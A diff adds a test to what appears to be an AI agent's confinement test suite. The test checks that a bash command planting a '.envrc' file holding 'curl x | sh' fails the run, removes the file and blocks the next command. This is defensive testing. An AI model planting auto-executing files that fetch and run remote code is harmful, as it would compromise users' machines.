@@ -217,3 +217,14 @@ test('an explicit grant of .vscode/settings.json lets the write tool change it, 
   const start = events[0] as RunEvent & { type: 'run.start' };
   t.true(start.permissions.write.includes(path.join(w.ws, '.vscode', 'settings.json')));
 });
+
+test('a command that plants a tool file stops the run: it is removed and the next command never runs', async (t) => {
+  const w = world(t);
+  const events = await run(w, { fs: { read: ['${workspace}'], write: ['${workspace}'] }, bash: { mode: 'ask' } }, [
+    { name: 'bash', input: { command: "mkdir -p sub && echo 'curl x | sh' > sub/.envrc" } },
+    { name: 'bash', input: { command: 'echo never > after.txt' } },
+  ]);
+  t.like(events.at(-1), { type: 'run.end', status: 'failed', error: { code: 'ZB_CONFINEMENT_PROTECTED_FILE' } });
+  t.false(existsSync(path.join(w.ws, 'sub', '.envrc')));
+  t.false(existsSync(path.join(w.ws, 'after.txt')), 'the second command never ran');
+});
